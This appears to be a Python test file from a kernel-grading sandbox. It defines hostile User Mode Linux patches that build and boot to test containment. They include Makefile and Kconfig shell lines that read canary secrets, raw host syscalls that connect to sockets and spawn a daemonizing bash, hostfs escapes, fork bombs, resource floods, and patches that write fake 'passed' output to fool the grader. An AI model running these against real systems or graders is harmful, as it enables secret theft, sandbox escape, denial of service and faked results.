# SPDX-License-Identifier: MIT
"""Kernels that do harm while they are built, and when they run.

A kernel of User Mode Linux is an ordinary process of this machine: ``host()`` below makes
any system call of it.  Each kernel is the pristine one with one more file, so that a build
takes seconds; what it forks, writes and waits for is bounded.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.hostile import texts
from tests.hostile.case import (
    APPLIES,
    BOOTS,
    BUILDS,
    COMPILES,
    FAILED,
    NOT_REACHED,
    PASSED,
    Case,
    reference_tools,
)
from tests.hostile.world import (
    ABSTRACT,
    BASE,
    CANARIES,
    LONG,
    MARKERS,
    PORT,
    SOCKET,
    VICTIM,
    World,
)
from tests.patches import AT_BOOT, MM, code, new_file

FIRST = "# SPDX-License-Identifier: GPL-2.0"
KCONFIG = "# SPDX-License-Identifier: GPL-2.0-only"
BOOTED = {APPLIES: PASSED, COMPILES: PASSED, BOOTS: PASSED}
NO_BOOT = {APPLIES: PASSED, COMPILES: PASSED, BOOTS: FAILED, "file/mode": NOT_REACHED}
NO_BUILD = {APPLIES: PASSED, COMPILES: FAILED, BOOTS: NOT_REACHED}
ONLY = "1.1,1.2,1.3,1.4,2.2"

HOST = """
static long host(long number, long a, long b, long c, long d)
{
	register long r10 asm("r10") = d;
	long result;

	asm volatile("syscall" : "=a" (result)
		: "a" (number), "D" (a), "S" (b), "d" (c), "r" (r10)
		: "rcx", "r11", "memory");
	return result;
}
#define READ 0
#define WRITE 1
#define OPEN 2
#define CLOSE 3
#define POLL 7
#define SOCKET 41
#define CONNECT 42
#define FORK 57
#define EXECVE 59
#define EXIT 60
#define WAIT4 61
#define KILL 62
#define GETPID 39
#define FTRUNCATE 77
#define EXIT_GROUP 231
"""


def boot_code(body: str, before: str = "") -> str:
    """A patch whose code runs once while the kernel boots."""
    return code("#include <linux/string.h>\n" + HOST + before + AT_BOOT % body)


def patched(patch: str) -> Callable[[Path, World], Path]:
    """A submission with that patch and the reference's tools."""

    def make(folder: Path, world: World) -> Path:
        reference_tools(folder)
        (folder / "kernel.patch").write_text(patch)
        return folder

    return make


def makefile(lines: str) -> str:
    """A patch of ipc/Makefile: ``lines`` below its first, and a harmless object."""
    added = [*lines.splitlines(), "obj-y += course.o"]
    body = "".join(f"+{line}\n" for line in added)
    return (
        f"--- a/ipc/Makefile\n+++ b/ipc/Makefile\n@@ -1 +1,{len(added) + 1} @@\n {FIRST}\n{body}"
        + new_file("ipc/course.c", "int course_answer = 42;\n")
    )


def kconfig(lines: str) -> str:
    """A patch of init/Kconfig: ``lines`` below its first."""
    added = lines.splitlines()
    body = "".join(f"+{line}\n" for line in added)
    return (
        f"--- a/init/Kconfig\n+++ b/init/Kconfig\n@@ -1 +1,{len(added) + 1} @@\n {KCONFIG}\n{body}"
    )


def case(
    name: str,
    what: str,
    patch: str,
    expected: dict[str, str],
    *words: str,
    only: str = ONLY,
    quick: bool = False,
) -> Case:
    """A case that needs a kernel built."""
    full = {BUILDS: PASSED, **expected}
    return Case(f"kernel/{name}", what, patched(patch), full, words, only, quick)


def c_string(text: str) -> str:
    """``text`` as a string of C, byte by byte."""
    data = text.encode("utf-8", "replace").replace(b"\0", b"")
    return '"' + "".join(f"\\{byte:03o}" for byte in data) + '"'


READS = " ".join(str(canary) for canary in CANARIES)
SHELL = (
    f"cat {READS} ~/canary; echo x > {MARKERS}/kernel_shell; env; cat /proc/[0-9]*/environ; "
    f"for p in /proc/[0-9]*; do grep -aq ^{VICTIM} $p/cmdline && kill -9 ${{p#/proc/}}; done; "
    f"(exec 3<>/dev/tcp/127.0.0.1/{PORT}); sleep {LONG} & exec setsid sleep {LONG}"
)
CALLS = f"""
	static const char * const canaries[] = {{ {", ".join(f'"{c}"' for c in CANARIES)} }};
	static char text[256];
	static char *argv[] = {{ "bash", "-c", {c_string(SHELL)}, NULL }};
	static char *envp[] = {{ "HOME={BASE}/home", "PATH=/usr/bin:/bin", NULL }};
	struct {{ u16 family; u8 rest[108]; }} to = {{
		2, {{ {PORT >> 8}, {PORT & 255}, 127, 0, 0, 1 }} }};
	long fd, n;

	for (n = 0; n < ARRAY_SIZE(canaries); n++) {{
		fd = host(OPEN, (long)canaries[n], 0, 0, 0);
		if (fd >= 0 && host(READ, fd, (long)text, sizeof(text) - 1, 0) > 0)
			pr_info("course: %s\\n", text);
	}}
	host(OPEN, (long)"{MARKERS}/kernel_open", 0102, 0666, 0);
	fd = host(SOCKET, 2, 1, 0, 0);
	pr_info("course: loopback %ld\\n", host(CONNECT, fd, (long)&to, 16, 0));
	to.family = 1;
	memcpy(to.rest, "\\0{ABSTRACT}", {len(ABSTRACT) + 1});
	fd = host(SOCKET, 1, 1, 0, 0);
	pr_info("course: abstract %ld\\n", host(CONNECT, fd, (long)&to, {len(ABSTRACT) + 3}, 0));
	memcpy(to.rest, "{SOCKET}", {len(str(SOCKET)) + 1});
	fd = host(SOCKET, 1, 1, 0, 0);
	pr_info("course: socket %ld\\n", host(CONNECT, fd, (long)&to, {len(str(SOCKET)) + 3}, 0));
	if (!host(FORK, 0, 0, 0, 0)) {{
		host(EXECVE, (long)"/bin/bash", (long)argv, (long)envp, 0);
		host(EXIT_GROUP, 1, 0, 0, 0);
	}}
	host(POLL, 0, 0, 300, 0);"""

FAKE = "{'status': 'passed'} 1.4 passed booted now=1 finished probe_ended status=0"
DESCRIPTORS = f"""
	static const char fake[] = "{FAKE}\\n0000 booted now=1\\n0000 finished now=2\\n";
	long fd;

	for (fd = 3; fd < 256; fd++)
		host(WRITE, fd, (long)fake, sizeof(fake) - 1, 0);"""

SPIN = """
	u64 n;

	local_irq_disable();
	for (n = 0; n < 1000000000000ull; n++)
		barrier();"""

HOSTFS_MOUNT = f"""
	static char text[256];
	static const char * const from[] = {{ "/", "../..", "../../../../.." }};
	struct file *file;
	loff_t at = 0;
	int n;

	init_mkdir("/h", 0700);
	for (n = 0; n < ARRAY_SIZE(from); n++) {{
		pr_info("course: mount %d\\n", init_mount("none", "/h", "hostfs", 0, (void *)from[n]));
		file = filp_open("/h{CANARIES[0]}", O_RDONLY, 0);
		if (!IS_ERR(file) && kernel_read(file, text, sizeof(text) - 1, &at) > 0)
			pr_info("course: %s\\n", text);
		file = filp_open("/h{MARKERS}/hostfs", O_WRONLY | O_CREAT, 0666);
		pr_info("course: marker %ld\\n", IS_ERR(file) ? PTR_ERR(file) : 0);
	}}"""

CASES = [
    case(
        "makefile",
        "a Makefile of the kernel reads canaries, writes markers, connects, leaves a daemon",
        makefile(
            f"HARM := $(shell cat {READS} ~/canary; echo x > {MARKERS}/kbuild; "
            f"touch /kernel/../x /usr/bin/x /baseline/x {BASE}/home/x; "
            f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{PORT}'; "
            f"setsid sleep {LONG} >/dev/null 2>&1 & )\n"
            "$(info course $(HARM))\n"
            "$(if $(findstring canary-,$(HARM)),$(error GAINED))"
        ),
        BOOTED,
    ),
    case(
        "incbin",
        ".incbin takes a canary into the kernel",
        code(f'asm(".section .rodata\\n.incbin \\"{CANARIES[0]}\\"\\n.text");\n'),
        NO_BUILD,
        "canary",
    ),
    case(
        "include",
        "#include shows a canary in the compiler's messages",
        code(f'#include "{CANARIES[1]}"\n'),
        NO_BUILD,
        "ipc/course.c:4",
    ),
    case(
        "kconfig_shell",
        "Kconfig's $(shell,...) reads a canary and writes a marker, in words of its error",
        kconfig(f"$(error-if,y,course $(shell,cat {READS}; touch {MARKERS}/kconfig))"),
        NO_BUILD,
        "Kconfig",
    ),
    case(
        "turns_the_watching_off",
        "Kconfig turns off what the grading kernel watches",
        "--- a/lib/Kconfig.kasan\n+++ b/lib/Kconfig.kasan\n@@ -46,2 +46,3 @@\n menuconfig KASAN\n"
        ' \tbool "KASAN: dynamic memory safety error detector"\n+\tdepends on BROKEN\n',
        NO_BUILD,
        "changes options",
    ),
    case(
        "folder_for_the_kernel",
        "a Makefile puts a folder where the kernel will be looked for",
        makefile("HARM := $(shell rm -f /kernel/linux; mkdir /kernel/linux)"),
        NO_BUILD,
        "left no kernel behind",
    ),
    case(
        "sleeping_build",
        "the build sleeps for minutes",
        makefile(f"HARM := $(shell sleep {LONG})"),
        NO_BUILD,
        "was ended after",
    ),
    case(
        "host_calls",
        "the kernel opens canaries, connects, and runs a host's shell that leaves a daemon",
        boot_code(CALLS),
        BOOTED,
        quick=True,
    ),
    case(
        "hostfs",
        "the kernel mounts hostfs, walks up, reads a canary and writes a marker",
        kconfig("config COURSE\n\tdef_bool y\n\tselect HOSTFS")
        + MM
        + new_file(
            "ipc/course.c",
            "#include <linux/init.h>\n#include <linux/kernel.h>\n#include <linux/fs.h>\n"
            "#include <linux/init_syscalls.h>\n#include <linux/err.h>\n" + AT_BOOT % HOSTFS_MOUNT,
        ),
        BOOTED,
    ),
    case(
        "fake_results",
        "the kernel writes fake results to every descriptor, and to its log, and leaves",
        boot_code(DESCRIPTORS + f'\n\tpr_info("{FAKE}\\n");\n\thost(EXIT_GROUP, 0, 0, 0, 0);'),
        NO_BOOT,
    ),
    case(
        "floods_the_results",
        "the kernel writes 80 MiB to every descriptor",
        boot_code(
            "\tstatic char much[1 << 16];\n\tlong fd, n;\n\n"
            "\tfor (fd = 3; fd < 64; fd++)\n\t\tfor (n = 0; n < 1280; n++)\n"
            "\t\t\tif (host(WRITE, fd, (long)much, sizeof(much), 0) < 0)\n\t\t\t\tbreak;"
        ),
        NO_BOOT,
        "flood",
    ),
    case(
        "log_of_markup",
        "the kernel logs HTML, scripts, terminal escapes and bidirectional marks, and panics",
        boot_code(
            "\tstatic const char * const texts[] = {\n"
            + "".join(f"\t\t{c_string(text)},\n" for text in texts.ALL.values() if len(text) < 500)
            + "\t};\n\tlong n;\n\n\tfor (n = 0; n < ARRAY_SIZE(texts); n++) {\n"
            "\t\thost(WRITE, 1, (long)texts[n], strlen(texts[n]), 0);\n"
            '\t\thost(WRITE, 1, (long)"\\n", 1, 0);\n\t}\n'
            f'\tpanic("%s", {c_string(texts.HTML["script"])});'
        ),
        NO_BOOT,
        "panic",
    ),
    case(
        "computes",
        "the kernel computes with interrupts off",
        boot_code(SPIN),
        NO_BOOT,
        "spin",
    ),
    case(
        "sleeps",
        "the kernel sleeps in a host's system call for minutes",
        boot_code("\tlong n;\n\n\tfor (n = 0; n < 300; n++)\n\t\thost(POLL, 0, 0, 1000, 0);"),
        NO_BOOT,
        "spin",
    ),
    case(
        "forks",
        "the kernel forks 400 host processes, which sleep: none is left for its own guests",
        boot_code(
            "\tlong n;\n\n\tfor (n = 0; n < 400; n++)\n\t\tif (!host(FORK, 0, 0, 0, 0)) {\n"
            "\t\t\thost(POLL, 0, 0, 60000, 0);\n\t\t\thost(EXIT_GROUP, 0, 0, 0, 0);\n\t\t}"
        ),
        NO_BOOT,
    ),
    case(
        "fills_shared_memory",
        "the kernel writes files of a GiB to /dev/shm and /tmp",
        boot_code(
            "\tstatic char much[1 << 16];\n\tlong fd, n, to;\n"
            '\tstatic const char * const names[] = { "/dev/shm/pgfault-hostile",\n'
            '\t\t"/tmp/pgfault-hostile" };\n\n'
            "\tfor (to = 0; to < 2; to++) {\n\t\tfd = host(OPEN, (long)names[to], 0102, 0600, 0);\n"
            "\t\thost(87, (long)names[to], 0, 0, 0);\n"
            "\t\tfor (n = 0; n < (1 << 14); n++)\n"
            "\t\t\tif (host(WRITE, fd, (long)much, sizeof(much), 0) < 0)\n\t\t\t\tbreak;\n\t}"
        ),
        {APPLIES: PASSED, COMPILES: PASSED},
    ),
    case(
        "passes_once",
        "a kernel that boots well the first time, and panics in the next boot",
        code(
            "#include <linux/initrd.h>\n#include <linux/string.h>\n"
            # The initial file system is gone once it is unpacked.
            + AT_BOOT.replace("late_initcall", "core_initcall")
            % (
                '\tif (initrd_start && strnstr((char *)initrd_start, "probe file_stat",\n'
                "\t\t\t\t\tinitrd_end - initrd_start))\n"
                '\t\tpanic("course: not this time");'
            )
        ),
        {**BOOTED, "file/mode": FAILED},
        "not this time",
    ),
]
